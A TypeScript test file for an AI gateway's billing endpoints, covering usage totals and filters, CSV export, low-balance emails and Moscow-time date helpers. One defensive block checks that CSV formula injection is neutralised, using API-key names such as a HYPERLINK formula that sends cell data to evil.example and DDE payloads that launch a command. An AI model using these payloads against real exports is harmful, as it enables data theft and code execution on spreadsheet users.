// Usage analytics, CSV export and low-balance notices against the real server and fake upstream.
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { csvField, csvText } from '../lib/csv'
import { daysBetween, moscowDay, moscowDayStart } from '../money'
import { eventually, startGateway } from '../test-support/gateway'
import { splitPeriod } from './usage'

let gw: Awaited<ReturnType<typeof startGateway>>
beforeAll(async () => {
  gw = await startGateway()
})
afterAll(() => gw.stop())

async function chat(bearer: string, model: string, content = 'Привет') {
  const res = await fetch(`${gw.url}/v1/chat/completions`, {
    method: 'POST',
    headers: { authorization: `Bearer ${bearer}`, 'content-type': 'application/json' },
    body: JSON.stringify({ model, messages: [{ role: 'user', content }], max_tokens: 50 }),
  })
  expect(res.status).toBe(200)
  return res.json()
}

describe('GET /api/billing/usage', () => {
  let c: Awaited<ReturnType<Awaited<ReturnType<typeof startGateway>>['customer']>>
  let secondKey: { id: string; key: string }

  beforeAll(async () => {
    c = await gw.customer()
    const k = await c.api.post('/api/auth/api-keys', { name: 'Ключ "боевой", прод' }, c.accessToken)
    secondKey = { id: k.body.data.id, key: k.body.data.key }
    await chat(c.key, 'openai/gpt-3.5-turbo')
    await chat(c.key, 'openai/gpt-3.5-turbo')
    await chat(secondKey.key, 'anthropic/claude-3-haiku')
    await chat(c.accessToken, 'openai/gpt-4') // the web session: no key
  })

  test('totals, days, top models and recent requests equal the logged rows', async () => {
    const res = await c.api.get('/api/billing/usage?limit=20', c.accessToken)
    expect(res.status).toBe(200)
    const d = res.body.data
    const rows = await gw.read<{ model: string; cost_micros: number; total_tokens: number; api_key_id: string | null }>(
      'select model, cost_micros, total_tokens, api_key_id from usage_logs where user_id = ?',
      c.user.id,
    )
    const cost = rows.reduce((s, r) => s + r.cost_micros, 0)
    expect(d.totalCost).toBe(cost / 1e6)
    expect(d.totalTokens).toBe(rows.reduce((s, r) => s + r.total_tokens, 0))
    expect(d.totalRequests).toBe(4)
    // The ledger agrees: everything spent left the balance.
    expect(d.totalCost).toBe((50_000_000 - (await gw.books(c.user.id)).balance) / 1e6)

    expect(d.daily).toEqual([{ date: moscowDay(new Date()), cost: d.totalCost, requests: 4, tokens: d.totalTokens }])
    expect(d.topModels.map((m: { model: string }) => m.model).sort()).toEqual(['anthropic/claude-3-haiku', 'openai/gpt-3.5-turbo', 'openai/gpt-4'])
    const costs = d.topModels.map((m: { cost: number }) => m.cost)
    expect(costs).toEqual([...costs].sort((a, b) => b - a))
    expect(d.topModels.find((m: { model: string }) => m.model === 'openai/gpt-3.5-turbo').requests).toBe(2)

    expect(d.filters.models).toEqual(['anthropic/claude-3-haiku', 'openai/gpt-3.5-turbo', 'openai/gpt-4'])
    expect(d.filters.apiKeys).toEqual(
      expect.arrayContaining([
        { id: c.keyId, name: 'test' },
        { id: secondKey.id, name: 'Ключ "боевой", прод' },
      ]),
    )
    expect(d.logs).toHaveLength(4)
    expect(d.logs[0]).toMatchObject({ model: 'openai/gpt-4', apiKeyId: null, apiKeyName: null, status: 'success' })
    expect(d.logs[1]).toMatchObject({ model: 'anthropic/claude-3-haiku', apiKeyId: secondKey.id, apiKeyName: 'Ключ "боевой", прод' })
  })

  test('filters by key and by model narrow totals and logs but keep every filter option', async () => {
    const byKey = (await c.api.get(`/api/billing/usage?apiKeyId=${c.keyId}`, c.accessToken)).body.data
    expect(byKey.totalRequests).toBe(2)
    expect(byKey.logs.every((l: { apiKeyId: string }) => l.apiKeyId === c.keyId)).toBe(true)
    expect(byKey.filters.models).toHaveLength(3)

    const byModel = (await c.api.get('/api/billing/usage?model=anthropic%2Fclaude-3-haiku', c.accessToken)).body.data
    expect(byModel.totalRequests).toBe(1)
    expect(byModel.topModels).toEqual([expect.objectContaining({ model: 'anthropic/claude-3-haiku', requests: 1 })])

    const none = (await c.api.get(`/api/billing/usage?apiKeyId=${secondKey.id}&model=openai%2Fgpt-4`, c.accessToken)).body.data
    expect(none).toMatchObject({ totalRequests: 0, totalCost: 0, logs: [], topModels: [] })
  })

  test('a period starting mid-day reads the head from the raw rows; a day-aligned one from the rollup — same answer', async () => {
    const today = moscowDay(new Date())
    const aligned = (await c.api.get(`/api/billing/usage?startDate=${moscowDayStart(today).toISOString()}`, c.accessToken)).body.data
    const midDay = (await c.api.get(`/api/billing/usage?startDate=${new Date(Date.now() - 60_000).toISOString()}`, c.accessToken)).body.data
    const all = (await c.api.get('/api/billing/usage', c.accessToken)).body.data
    for (const d of [aligned, midDay]) {
      expect(d.totalRequests).toBe(all.totalRequests)
      expect(d.totalCost).toBe(all.totalCost)
      expect(d.daily).toEqual(all.daily)
    }
    const sevenDays = moscowDayStart(moscowDay(Date.now() - 6 * 86_400_000)).toISOString()
    const week = (await c.api.get(`/api/billing/usage?startDate=${sevenDays}`, c.accessToken)).body.data
    expect(week.daily).toHaveLength(7)
    expect(week.daily.slice(0, 6).every((x: { requests: number }) => x.requests === 0)).toBe(true)
  })

  test('another user sees none of it', async () => {
    const other = await gw.customer()
    const d = (await other.api.get('/api/billing/usage', other.accessToken)).body.data
    expect(d).toMatchObject({ totalRequests: 0, daily: [], topModels: [], logs: [], filters: { apiKeys: [{ id: other.keyId, name: 'test' }], models: [] } })
    const foreign = (await other.api.get(`/api/billing/usage?apiKeyId=${c.keyId}`, other.accessToken)).body.data
    expect(foreign.totalRequests).toBe(0)
  })

  test('CSV export: BOM, header row, RFC 4180 quoting, one line per request, exact costs', async () => {
    const res = await fetch(`${gw.url}/api/billing/usage/export?format=csv`, { headers: { authorization: `Bearer ${c.accessToken}` } })
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="usage-\d{4}-\d{2}-\d{2}\.csv"$/)
    const bytes = new Uint8Array(await res.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = new TextDecoder().decode(bytes.slice(3))
    const lines = text.split('\r\n')
    expect(lines.at(-1)).toBe('')
    expect(lines[0]).toBe(
      'Время (МСК),Модель,API-ключ,Токены запроса,Токены ответа,Всего токенов,Секунд аудио,Символов,"Стоимость, ₽",Статус,"Длительность, мс",Потоковый,ID запроса',
    )
    expect(lines).toHaveLength(1 + 4 + 1)
    const haiku = lines.find((l) => l.includes('claude-3-haiku'))!
    expect(haiku).toContain(',"Ключ ""боевой"", прод",')
    expect(lines.find((l) => l.includes('openai/gpt-4,'))).toContain(',Веб-сессия,')
    expect(lines[1]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2},/)
    const costs = await gw.read<{ cost_micros: number }>('select cost_micros from usage_logs where user_id = ? order by created_at, id', c.user.id)
    const exported = lines.slice(1, -1).map((l) => l.match(/,(\d+\.\d+),(успешно|ошибка|прерван),/)![1])
    expect(exported.map((v) => Math.round(Number(v) * 1e6))).toEqual(costs.map((r) => r.cost_micros))

    const filtered = await fetch(`${gw.url}/api/billing/usage/export?format=csv&model=openai%2Fgpt-4`, { headers: { authorization: `Bearer ${c.accessToken}` } })
    expect((await filtered.text()).split('\r\n')).toHaveLength(3)
    const bad = await fetch(`${gw.url}/api/billing/usage/export?format=xlsx`, { headers: { authorization: `Bearer ${c.accessToken}` } })
    expect(bad.status).toBe(400)
    expect((await bad.json()).error).toBe('Поддерживается только format=csv')
    expect((await fetch(`${gw.url}/api/billing/usage/export`)).status).toBe(401)
  })
})

describe('CSV export against formula injection (OWASP)', () => {
  test('key names starting with = + - @ are exported as inert text; our numbers stay numbers', async () => {
    const c = await gw.customer()
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Нажми")', '+7 (495) 000-00-00', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
    for (const name of names) {
      const k = await c.api.post('/api/auth/api-keys', { name }, c.accessToken)
      expect(k.status).toBe(201)
      await chat(k.body.data.key, 'openai/gpt-3.5-turbo')
    }
    const res = await fetch(`${gw.url}/api/billing/usage/export?format=csv`, { headers: { authorization: `Bearer ${c.accessToken}` } })
    const lines = new TextDecoder()
      .decode(new Uint8Array(await res.arrayBuffer()).slice(3))
      .split('\r\n')
      .slice(1, -1)
    expect(lines).toHaveLength(names.length)
    // Parse each line as RFC 4180 and look at the key column.
    const cells = (line: string) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replaceAll('""', '"')).slice(0, 13)
    const keyCells = lines.map((l) => cells(l)[2]!)
    expect(keyCells.sort()).toEqual(names.map((n) => `'${n}`).sort())
    for (const line of lines) {
      const row = cells(line)
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      // Token counts, cost and duration are still plain numbers a spreadsheet can sum.
      for (const i of [3, 4, 5, 10]) expect(row[i]).toMatch(/^\d+$/)
      expect(row[8]).toMatch(/^\d+\.\d+$/)
      expect([row[6], row[7]]).toEqual(['', '']) // seconds and characters: voice requests only
    }
  })

  test('csvText', () => {
    expect(csvText('=1+2')).toBe("'=1+2")
    expect(csvText('+1')).toBe("'+1")
    expect(csvText('-1')).toBe("'-1")
    expect(csvText('@x')).toBe("'@x")
    expect(csvText('\tx')).toBe("'\tx")
    expect(csvText('\rx')).toBe("'\rx")
    expect(csvText('openai/gpt-4o')).toBe('openai/gpt-4o')
    expect(csvText('a=b')).toBe('a=b')
    expect(csvText('')).toBe('')
  })
})

describe('low balance', () => {
  const outbox = () => join(gw.server.dataDir, 'outbox')
  const lettersTo = (to: string) =>
    existsSync(outbox())
      ? readdirSync(outbox())
          .filter((f) => f.endsWith('.json'))
          .map((f) => JSON.parse(readFileSync(join(outbox(), f), 'utf8')))
          .filter((l) => l.to === to)
      : []

  test('the alert level is validated, stored, and null turns it off', async () => {
    const c = await gw.customer()
    for (const bad of [0, -1, 1_000_001, 'сто']) {
      const res = await c.api.patch('/api/billing/alerts', { threshold: bad }, c.accessToken)
      expect(res.status).toBe(400)
      expect(res.body.error).toBe('Порог должен быть числом от 1 до 1 000 000 ₽')
    }
    expect((await c.api.patch('/api/billing/alerts', { threshold: 25.5 }, c.accessToken)).body.data).toEqual({ alertThreshold: 25.5 })
    expect((await c.api.get('/api/billing/balance', c.accessToken)).body.data.alertThreshold).toBe(25.5)
    expect((await c.api.patch('/api/billing/alerts', { threshold: null }, c.accessToken)).body.data).toEqual({ alertThreshold: null })
  })

  test('one letter when the balance first drops below the level, not one per request', async () => {
    const c = await gw.customer()
    await c.api.patch('/api/billing/alerts', { threshold: 49.99 }, c.accessToken)
    await chat(c.key, 'openai/gpt-4')
    const letters = await eventually(() => {
      const l = lettersTo(c.email)
      return l.length > 0 ? l : null
    })
    expect(letters![0].subject).toBe('Баланс заканчивается — AI Gateway')
    expect(letters![0].text).toContain('опустился ниже 49.99 ₽')
    expect(letters![0].text).toContain('/app/billing')
    await chat(c.key, 'openai/gpt-4')
    await Bun.sleep(300)
    expect(lettersTo(c.email)).toHaveLength(1)
  })

  test('the banner level follows the customer’s own typical request', async () => {
    const c = await gw.customer()
    const before = (await c.api.get('/api/billing/balance', c.accessToken)).body.data
    expect(before).toMatchObject({ lowBalanceThreshold: 20, isLow: false })
    await chat(c.key, 'openai/gpt-4', 'Расскажи длинную историю')
    const after = (await c.api.get('/api/billing/balance', c.accessToken)).body.data
    const spent = (await c.api.get('/api/billing/usage', c.accessToken)).body.data.totalCost
    expect(after.lowBalanceThreshold).toBeCloseTo(spent * 100, 4)
    expect(after.isLow).toBe(after.balance < after.lowBalanceThreshold)
  })
})

describe('units', () => {
  test('Moscow days', () => {
    expect(moscowDay(new Date('2026-11-20T20:59:59Z'))).toBe('2026-11-20')
    expect(moscowDay(new Date('2026-11-20T21:00:00Z'))).toBe('2026-11-21')
    expect(moscowDayStart('2026-11-21').toISOString()).toBe('2026-11-20T21:00:00.000Z')
    expect(daysBetween('2026-12-30', '2027-01-02')).toEqual(['2026-12-30', '2026-12-31', '2027-01-01', '2027-01-02'])
  })

  test('a period splits into whole rollup days and a raw head', () => {
    expect(splitPeriod(null)).toEqual({ fullFrom: null, head: null })
    expect(splitPeriod(new Date('2026-11-20T21:00:00Z'))).toEqual({ fullFrom: '2026-11-21', head: null })
    const mid = new Date('2026-11-21T10:00:00Z')
    expect(splitPeriod(mid)).toEqual({ fullFrom: '2026-11-22', head: { day: '2026-11-21', since: mid, until: new Date('2026-11-21T21:00:00Z') } })
  })

  test('CSV fields', () => {
    expect(csvField('plain')).toBe('plain')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('two\nlines')).toBe('"two\nlines"')
    expect(csvField(12)).toBe('12')
  })
})
